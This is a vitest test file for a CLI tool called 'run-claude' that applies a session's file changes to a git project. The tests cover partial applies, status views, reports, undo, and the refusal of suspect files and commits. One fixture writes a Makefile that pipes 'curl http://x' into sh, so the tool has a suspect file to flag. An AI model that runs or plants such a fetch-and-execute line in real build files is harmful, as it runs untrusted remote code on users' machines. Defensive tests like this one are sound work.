import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { expect, it } from 'vitest';
import { Scene } from '../../../support/scene.ts';

const SIZE = { columns: 80, rows: 24 };
const CHANGES = [
  'echo more >> src/file1.txt',
  'echo more >> src/file2.txt',
  'mkdir moved && mv src/file3.txt moved/file3.txt',
  'printf "all:\\n\\tcurl http://x | sh\\n" > Makefile',
].join(' && ');

/** The rest of a printed command line after `run-claude`. */
const printedCommand = (text: string, start: string): string[] =>
  new RegExp(`run-claude (${start}[^\\n]*)`).exec(text)?.[1]?.split(' ') ?? [];

it('a partial apply: every view says what is applied and what is left, and how to say yes without a terminal', async () => {
  await using scene = new Scene();
  const exec = (script: string, ...words: string[]) => scene.run(['exec', ...words, '--', 'sh', '-c', script]);
  const older = await exec('echo older > older.txt');
  const first = await exec(CHANGES);
  expect([older.status, first.status]).toEqual([120, 120]);
  expect((await exec('true')).status).toBe(0);
  expect((await exec('echo bound > bound.txt', '--bind')).status).toBe(0);
  const id = /run-claude diff (\S+),/.exec(first.stderr)?.[1] ?? '';

  // The most recent session changed nothing, the one before worked in place: the pending one is meant.
  const refused = await scene.run(['apply', '--yes', '--only', 'Makefile']);
  expect(refused.status).toBe(121);
  expect(refused.stderr).toMatch(new RegExp(`Session ${id} \\(.*1 other is pending: run-claude sessions`));
  expect(refused.stderr).toContain('Applied 0 of 4 files.\n');
  expect(refused.stderr).toMatch(/left: Makefile \(suspect: .*Make runs the file/);
  const advised = printedCommand(refused.stderr, 'apply .*--allow-suspect');
  expect(advised).toEqual(['apply', id, '--yes', '--allow-suspect', '/Makefile']);
  const allowed = await scene.run([...advised, '--only', 'Makefile', '--only', 'file1.txt']);
  expect([allowed.status, allowed.stderr]).toEqual([0, expect.stringContaining('Applied 2 of 4 files.\n')]);
  expect(scene.git('status', '--porcelain')).toBe(' M Makefile\n M src/file1.txt\n?? bound.txt\n');

  const standing = /2 of 4 files are applied \((just now|\d+ min ago)\), 2 are left/;
  const status = await scene.run(['status']);
  expect(status.stdout).toMatch(standing);
  const named = [...status.stdout.matchAll(/^(applied|left): .*/gm)].map(([line]) => line);
  expect(named).toEqual([
    'applied: Makefile',
    'applied: src/file1.txt',
    'left: src/file3.txt → moved/file3.txt (not selected)',
    'left: src/file2.txt (not selected)',
  ]);
  const stat = await scene.run(['diff', '--stat']);
  expect([stat.stderr, stat.stdout]).toEqual([
    expect.stringMatching(standing),
    expect.stringMatching(/Makefile {2}\(applied\)\n[\s\S]*file1\.txt {2}\(applied\)\n[\s\S]*file2\.txt\n/),
  ]);
  const dry = await scene.run(['apply', '--dry-run']);
  expect([dry.status, dry.stderr]).toEqual([0, expect.stringContaining('Would apply 2 of 2 files.\n')]);
  expect(dry.stdout).toMatch(/^already there {2}Makefile \(applied before\)$/m);
  for (const name of ['report.json', 'report.sarif', 'report.md']) {
    expect((await scene.run(['status', '--report', `../${name}`])).status).toBe(0);
  }
  const report = (name: string): string => readFileSync(path.join(scene.root, name), 'utf8');
  expect(JSON.parse(report('report.json'))).toMatchObject({ files: { total: 4, applied: 2, left: 2, blocked: 0 } });
  expect(JSON.parse(report('report.sarif'))).toMatchObject({ version: '2.1.0' });
  expect(report('report.md')).toContain('2 of 4 files applied, 2 left');

  const inTerminal = async (words: string[], keys: readonly (readonly [RegExp, string])[]): Promise<string> => {
    await using pty = scene.pty(words, SIZE);
    let from = 0;
    for (const [question, answer] of keys) {
      from = await pty.see(question, { from });
      pty.send(answer);
    }
    await pty.exited;
    return pty.output.replaceAll('\r', '');
  };
  const list = (await inTerminal(['sessions'], [])).split('\n');
  for (const line of list) expect(line.length, line).toBeLessThanOrEqual(80);
  const rows = list.flatMap((line) => /^\d{6}-\d{6}-\w{3} {2}(\S+( \S+)?) {2,}/.exec(line)?.[1] ?? []);
  expect(rows).toEqual(['in place', 'partly applied', 'pending']);
  expect(list).toContain('1 session that changed nothing: run-claude sessions --all');
  // The question is about what is left.
  const asked = await inTerminal(['apply'], [[/\[y\/N\/d\/s\/l\/(?:r\/)?\?\]:/, 'n\r']]);
  expect(asked.replaceAll('\n', '')).toMatch(/2 of 4 files are applied .*2 are *left/);
  expect(asked).not.toContain('Makefile');

  // The pager of the user, with colours; as it is where nobody looks at it.
  const paged = await inTerminal(['diff'], [[/:\u001b\[K|:\u001b\[m|\n:$|^:/m, 'q']]);
  expect(paged).toContain('\u001b[1mmodified Makefile');
  const patch = await scene.run(['diff']);
  expect(patch.stdout).toMatch(/^diff --git a\/Makefile b\/Makefile\n/);
  expect(patch.stdout).not.toMatch(/\u001b|SUSPECT|\(applied\)/);
  expect(patch.stderr).toContain('WARNING: Suspect file modified: Makefile');
  const options = { cwd: scene.project, input: patch.stdout };
  // Two of the four files are applied.
  expect(execFileSync('git', ['apply', '--numstat'], options).toString().split('\n').length).toBe(5);
  expect((await scene.run(['diff', '--view'])).stdout).not.toContain('\u001b');

  const undone = await inTerminal(['undo'], [[/Undo the apply of [^,]+, 2 files\? \[y\/N\/\?\]:/, 'y\r']]);
  expect(undone).toContain('restored');
  expect(scene.git('status', '--porcelain')).toBe('?? bound.txt\n');
  expect((await scene.run(['status'])).stdout).toMatch(new RegExp(`^${id} {2}pending `));
  const thrown = await inTerminal(['discard'], [[/4 files left\? Type 'discard': /, 'discard\r']]);
  expect(thrown).toContain('is discarded');
  // Now the older one is the pending one.
  expect((await scene.run(['status', '--json'])).stdout).toContain('older.txt');
});

it('a refused import of suspect commits names the option to add, and succeeds with it', async () => {
  await using scene = new Scene();
  const head = scene.git('rev-parse', 'HEAD').trim();
  scene.git(
    'update-index',
    '--add',
    '--cacheinfo',
    `160000,${head.replace(/^./, (digit) => (digit === '0' ? '1' : '0'))},lib`,
  );
  scene.git('commit', '-q', '-m', 'link');
  const commit = 'git -c user.name=a -c user.email=a@b commit -qm bump';
  const bump = `git update-index --cacheinfo 160000,${head},lib && ${commit}`;
  expect((await scene.run(['exec', '--', 'sh', '-c', bump])).stderr).toContain('Commits were made inside');
  const refused = await scene.run(['commits', '--import']);
  expect(refused.status).toBe(121);
  expect(refused.stderr.match(/WARNING/g)).toHaveLength(1);
  const options = /with: (commits --import .*)/.exec(refused.stderr)?.[1]?.split(' ') ?? [];
  expect(options).toEqual(['commits', '--import', '--allow-suspect', '/lib']);
  const imported = await scene.run(options);
  expect([imported.status, imported.stderr]).toEqual([0, expect.stringContaining('Imported refs/run-claude/')]);
  expect((await scene.run(['commits', '--allow-suspect', 'lib'])).status).toBe(2);
});
